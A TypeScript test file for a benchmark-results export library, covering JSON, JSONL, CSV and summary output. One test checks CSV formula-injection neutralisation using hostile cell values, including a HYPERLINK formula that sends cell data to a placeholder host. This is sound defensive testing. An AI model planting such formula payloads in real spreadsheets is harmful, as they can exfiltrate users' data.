import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import {
  promptRecordFor,
  resultFrom,
  parseBenchmarkFile,
  parseOfficialResults,
  PyFloat,
  pythonJsonDumps,
  toCsv,
  toOfficialJsonl,
  toSummaryJson,
  readSummaryFile,
  modelDigest,
  OFFICIAL_CONFIG,
  runIdentity,
  runSettings,
  samplesDigest,
} from './index';

describe('pythonJsonDumps', () => {
  it('writes like json.dumps with default arguments', () => {
    // Expected strings are what CPython 3.11 json.dumps prints for the same values.
    expect(pythonJsonDumps({ a: 1, b: [true, null], c: 'é"\n' })).toBe(
      '{"a": 1, "b": [true, null], "c": "\\u00e9\\"\\n"}',
    );
    expect(pythonJsonDumps(new PyFloat(1))).toBe('1.0');
    expect(pythonJsonDumps(new PyFloat(0.00001))).toBe('1e-05');
    expect(pythonJsonDumps(0.5)).toBe('0.5');
    expect(pythonJsonDumps('😀')).toBe('"\\ud83d\\ude00"');
  });
});

describe('exports', () => {
  const parsed = parseBenchmarkFile(
    'examples.jsonl',
    readFileSync(
      new URL('../../../shared/seedbench/egoplan-bench2-examples/examples.jsonl', import.meta.url),
      'utf8',
    ),
  );
  const samples = parsed.samples.slice(0, 3);
  const results = samples.map((s, i) =>
    resultFrom(s, {
      response: i === 2 ? null : `<think>t</think><answer>${i === 0 ? s.gold : 'Z'}</answer>`,
      modelPrompt: i === 2 ? null : promptRecordFor(s, 'as-is', 16, 900),
      error: i === 2 ? { stage: 'clip', message: 'missing' } : null,
    }),
  );

  it('writes the official results lines for finished questions', () => {
    const { jsonl: text, refused } = toOfficialJsonl(samples, results);
    expect(refused).toEqual([]);
    const lines = text.trimEnd().split('\n');
    expect(lines).toHaveLength(2);
    const first = JSON.parse(lines[0]!) as {
      sample_id: unknown;
      solution: string;
      prompt: { content: { type: string }[] }[];
    };
    expect(Object.keys(first)).toEqual([
      'sample_id',
      'prompt',
      'problem',
      'solution',
      'response',
      'reward',
    ]);
    expect(first.sample_id).toBe(samples[0]!.rawSampleId);
    expect(first.solution).toBe(`<answer>${samples[0]!.gold}.</answer>`);
    expect(lines[0]).toMatch(/"reward": 1\.0\}$/);
    expect(lines[1]).toMatch(/"reward": 0\.0\}$/);
    expect(first.prompt[0]!.content.map((c) => c.type)).toEqual(['video', 'image', 'text']);
    // Round trip through the importer.
    const back = parseOfficialResults('r.jsonl', text);
    expect(back.errors).toEqual([]);
    expect(back.lines.map((l) => l.reward)).toEqual([1, 0]);
  });

  it('writes CSV with quoting and a summary JSON', () => {
    const csv = toCsv(results);
    const rows = csv.trimEnd().split('\r\n');
    expect(rows).toHaveLength(4);
    expect(rows[0]!.split(',')[0]).toBe('sample_id');
    expect(rows[3]).toContain('clip: missing');
    const settings = runSettings(
      runIdentity(
        { id: 'b', questions: 3, digest: samplesDigest(samples) },
        { label: 'm', dtype: 'q4', q4Int8: 'off', digest: modelDigest([]), files: [] },
        OFFICIAL_CONFIG,
      ),
      { subset: { kind: 'all' }, device: 'wasm' },
    );
    const run = { settings, devices: ['wasm'], selection: {}, startedAt: null, finishedAt: null };
    const summary = readSummaryFile('summary.json', toSummaryJson(run, results));
    expect(() => readSummaryFile('bad.json', '{"questions": -1}')).toThrow(/^bad\.json run: /);
    expect(summary.run.settings.key).toBe(settings.key);
    expect(summary.summary.total.byMode.official).toMatchObject({ n: 2, correct: 1 });
    expect(summary.summary.total.errors).toBe(1);
  });

  it('neutralises CSV cells a spreadsheet would run as formulas (OWASP), keeps numbers', () => {
    const base = results[0]!;
    const hostile = [
      '=HYPERLINK("http://x/?"&A1,"click")',
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
    ];
    const csv = toCsv(
      hostile.map((response, k) => ({
        ...base,
        sampleId: k === 0 ? '=1+1' : `s${k}`,
        response,
        letterLogprobs: [-1.5, -2, -3, -4] as [number, number, number, number],
      })),
    );
    const rows = csv.trimEnd().split('\r\n').slice(1);
    rows.forEach((row, k) => {
      expect(row.endsWith(`,"'${hostile[k]!.replace(/"/g, '""')}"`), row).toBe(true);
      expect(row).toContain(',-1.5,-2,-3,-4,');
    });
    expect(rows[0]!.startsWith(`"'=1+1",`)).toBe(true);
  });

  it('reports bad lines of an imported results file', () => {
    const r = parseOfficialResults(
      'py.jsonl',
      '{"sample_id": 1, "response": "x", "reward": 1.0}\nnot json\n',
    );
    expect(r.lines).toHaveLength(1);
    expect(r.errors[0]).toMatch(/^py\.jsonl:2: /);
  });
});
